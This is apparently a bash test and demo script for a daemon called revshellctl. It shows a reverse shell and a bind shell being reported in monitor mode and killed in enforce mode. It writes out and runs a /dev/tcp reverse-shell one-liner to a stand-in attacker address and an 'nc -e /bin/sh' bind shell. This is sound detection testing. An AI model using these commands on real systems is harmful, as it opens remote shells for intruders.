#!/usr/bin/env bash
# SPDX-License-Identifier: LGPL-2.1-or-later
# Shows a reverse shell and a bind shell: seen in monitor mode, stopped in enforce mode.
. "$(dirname "$0")/../tests/vm/lib.sh"

# An address of documentation (RFC 5737) plays the attacker: the shipped policies leave private ones alone.
attacker=203.0.113.5
secret=the-intruder-is-in

step() {
	printf '\n== %s\n' "$*"
}

# run COMMAND...: shows the command as a user would type it, and what it prints.
run() {
	printf '   $ revshellctl %s\n' "$*"
	ctl "$@" | sed 's/^/   /'
}

has_events() {
	[ "$(wc -l <"$T/events")" -ge "$((shown + $1))" ]
}

# show_events N VERDICT: waits for that many more; one of them has to have this verdict.
show_events() {
	wait_for 10 has_events "$1" || true
	sed -n "$((shown + 1)),\$p" "$T/events" >"$T/events.new"
	shown=$(wc -l <"$T/events")
	sed 's/^/   event: /' "$T/events.new"
	check_match "it was reported as $2" " $2 " "$T/events.new"
}

# show_output FILE: with bash's note on a killed program cut to what it would be in a terminal.
show_output() {
	sed 's/^.*: line [0-9]*: *[0-9]* Killed .*/Killed/; s/^/   /' "$1"
}

# reverse_shell: the attacker's machine sends commands to whatever shell connects, and notes the answer.
reverse_shell() {
	: >"$T/attacker"
	printf '   $ bash -i >& /dev/tcp/%s/4444 0>&1\n' "$attacker"
	HOME=$T timeout 20 setsid bash -c "bash -i >& /dev/tcp/$attacker/4444 0>&1" >"$T/shell.out" 2>&1 || true
	show_output "$T/shell.out"
}

# bind_shell: a shell that waits for anybody at all; then somebody comes.
bind_shell() {
	local nc

	printf '   $ nc -l -p 5555 -e /bin/sh\n'
	: >"$T/visitor"
	# The shell around it says "Killed" into the file, not to whoever looks on.
	(
		timeout 20 nc.traditional -l -p 5555 -e /bin/sh
		exit
	) >"$T/nc.out" 2>&1 &
	nc=$!
	wait_for 5 nc_settled "$nc" || true
	printf 'echo %s\nexit\n' "$secret" | timeout 10 nc.openbsd -N 127.0.0.1 5555 >"$T/visitor" 2>&1 || true
	wait "$nc" || true
	show_output "$T/nc.out"
}

nc_settled() {
	listening 5555 || process_gone "$1"
}

got() {
	grep -q "^$secret" "$1"
}

mkdir -p "$T/policies" "$T/bin"
cp "$TREE"/policies/*.yaml "$T/policies/" && chmod 644 "$T"/policies/*
ip addr add "$attacker/32" dev lo
cp "$PROBE" "$T/bin/attacker"
start_helper "$T/attacker.log" "$T/bin/attacker" --send "echo $secret"$'\nexit\n' \
	serve tcp4 "$attacker" 4444 "$T/attacker"

step 'The daemon starts, in monitor mode'
start_daemon "$T/policies" --mode=monitor || exit 1
run status
ctl events -f -o compact >"$T/events" 2>"$T/events.err" &
helper_pids+=("$!")
shown=0
wait_for 20 subscribed || fail 'the events can be followed'

step 'Monitor: a reverse shell'
reverse_shell
show_events 2 would-deny
wait_for 10 got "$T/attacker" && ok 'the attacker got a shell, and the connection was only watched' ||
	fail 'the reverse shell did not work in monitor mode'

step 'Monitor: a bind shell'
bind_shell
show_events 2 would-deny
got "$T/visitor" && ok 'the visitor got a shell, and the listener was only watched' ||
	fail 'the bind shell did not work in monitor mode'

step 'Two of the policies are switched to enforce, and enforcing is switched on'
run policy mode enforce-no-reverse-shell enforce
run policy mode enforce-no-bind-shell enforce
run enforce on
run status
run policy list

step 'Enforce: the same reverse shell'
reverse_shell
show_events 1 killed
! got "$T/attacker" && ok 'the attacker got nothing' || fail 'the attacker got a shell'

step 'Enforce: the same bind shell'
bind_shell
show_events 1 killed
! got "$T/visitor" && ok 'nobody could connect' || fail 'the visitor got a shell'

step 'What the daemon counted (revshellctl stats, without the zeros)'
ctl stats --no-legend | awk '$2 != 0 { print "   " $0 }'
finish
